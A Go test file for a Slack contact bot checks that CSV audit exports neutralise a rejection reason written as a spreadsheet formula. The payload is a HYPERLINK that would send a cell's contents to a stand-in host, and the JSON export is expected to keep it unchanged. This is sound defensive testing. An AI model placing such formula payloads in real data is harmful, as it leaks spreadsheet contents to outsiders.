package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/slack-go/slack"

	"contactbot/bot"
	"contactbot/bot/bottest"
	"contactbot/crm"
	"contactbot/crm/crmtest"
)

// TestAuditExportsNeutraliseFormulas: a rejection reason typed as a
// spreadsheet formula, entered through the reject window over signed HTTP,
// comes out of `/contact audit` (the Slack file) and `contactbot audit
// --format csv` (the command line) as the same text after an apostrophe,
// which a spreadsheet shows and does not run. JSON lines keep it as typed.
func TestAuditExportsNeutraliseFormulas(t *testing.T) {
	ctx := context.Background()
	url := "sqlite://" + filepath.Join(t.TempDir(), DatabaseFile)
	if crmtest.AdminURL() != "" {
		url = crmtest.NewDatabase(t)
	}
	e := bottest.New(t, bottest.Options{DatabaseURL: url})
	store := e.Store

	const formula = `=HYPERLINK("http://x/?"&A1,"ok")`
	// reject has Support ask for a delete of a new contact and an admin
	// reject it with reason, through the windows over signed HTTP.
	reject := func(first, reason string) {
		t.Helper()
		id := crmtest.InsertContact(t, store, crmtest.Contact{FirstName: first, LastName: "Test", Email: strings.ToLower(first) + "@example.com"})
		if r := e.Click(bottest.Support, bot.ActionDelete, id); r.Status != http.StatusOK {
			t.Fatalf("click Delete…: %d %s", r.Status, r.Body)
		}
		if r := e.Submit(bottest.Support, e.LastView(), map[string]string{"reason": "duplicate", "confirm": "DELETE"}); !strings.Contains(r.Body, "Request sent") {
			t.Fatalf("request: %d %s", r.Status, r.Body)
		}
		e.Bot.Wait()
		list, err := store.ApprovalsBy(ctx, bottest.Support, 10)
		if err != nil {
			t.Fatal(err)
		}
		var request string
		for _, a := range list {
			if a.ContactID == id {
				request = a.ID
			}
		}
		if request == "" {
			t.Fatalf("no request for %s", first)
		}
		if r := e.Click(bottest.Admin, bot.ActionReject, request); r.Status != http.StatusOK {
			t.Fatalf("click Reject: %d %s", r.Status, r.Body)
		}
		e.Bot.Wait()
		v := e.LastView()
		if v.CallbackID != bot.CallbackRejectModal {
			t.Fatalf("Reject opened %q", v.CallbackID)
		}
		v.State = &slack.ViewState{Values: map[string]map[string]slack.BlockAction{"reject_reason": {"reject_reason": {Value: reason}}}}
		if r := e.Interact(slack.InteractionCallback{Type: slack.InteractionTypeViewSubmission, User: slack.User{ID: bottest.Admin}, Team: slack.Team{ID: bottest.Team}, View: v}); r.Status != http.StatusOK {
			t.Fatalf("reject submit: %d %s", r.Status, r.Body)
		}
		e.Bot.Wait()
	}
	reject("Rita", formula)
	reject("Dan", "-")

	// rejections are the reasons' cells of a CSV export, oldest first, as a
	// reader parses them.
	rejections := func(t *testing.T, name string, content []byte) []string {
		t.Helper()
		rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
		if err != nil {
			t.Fatalf("%s is not CSV: %v\n%s", name, err, content)
		}
		var out []string
		for _, row := range rows[1:] {
			if row[3] == crm.AuditRejected {
				out = append(out, row[10])
			}
			// The id, a plain number, stays a number.
			if row[0] == "" || row[0][0] == '\'' {
				t.Errorf("%s: the id's cell is %q", name, row[0])
			}
		}
		return out
	}
	wantCells := []string{`'=HYPERLINK("http://x/?"&A1,"ok")`, `'-`}
	// As written to the file: the quotes doubled inside a quoted cell, then
	// the empty batch_id.
	const wantCSV = `"'=HYPERLINK(""http://x/?""&A1,""ok"")"`

	t.Run("SlackFile", func(t *testing.T) {
		e.Command(bottest.Admin, "audit 7")
		e.Bot.Wait()
		files := e.Slack.Files()
		if len(files) != 1 {
			t.Fatalf("%d files shared", len(files))
		}
		if got := rejections(t, "the Slack file", files[0].Content); !cmp.Equal(got, wantCells) {
			t.Errorf("the reasons' cells are %q, want %q", got, wantCells)
		}
		if !strings.Contains(string(files[0].Content), ","+wantCSV+",\n") {
			t.Errorf("the file does not hold %s:\n%s", wantCSV, files[0].Content)
		}
	})

	t.Run("CommandLine", func(t *testing.T) {
		t.Setenv("DATABASE_URL", url)
		t.Setenv("REDIS_URL", "")
		var out, errb bytes.Buffer
		if code := run(ctx, []string{"audit", "--since", "24h", "--format", "csv"}, strings.NewReader(""), &out, &errb); code != 0 {
			t.Fatalf("exit %d: %s", code, errb.String())
		}
		if got := rejections(t, "contactbot audit", out.Bytes()); !cmp.Equal(got, wantCells) {
			t.Errorf("the reasons' cells are %q, want %q", got, wantCells)
		}
		if !strings.Contains(out.String(), ","+wantCSV+",\n") {
			t.Errorf("the export does not hold %s:\n%s", wantCSV, out.String())
		}
		out.Reset()
		if code := run(ctx, []string{"audit", "--since", "24h", "--format", "jsonl"}, strings.NewReader(""), &out, &errb); code != 0 {
			t.Fatalf("exit %d: %s", code, errb.String())
		}
		if !strings.Contains(out.String(), `"detail":"=HYPERLINK(\"http://x/?\"&A1,\"ok\")"`) {
			t.Errorf("JSON lines changed the reason:\n%s", out.String())
		}
	})
}
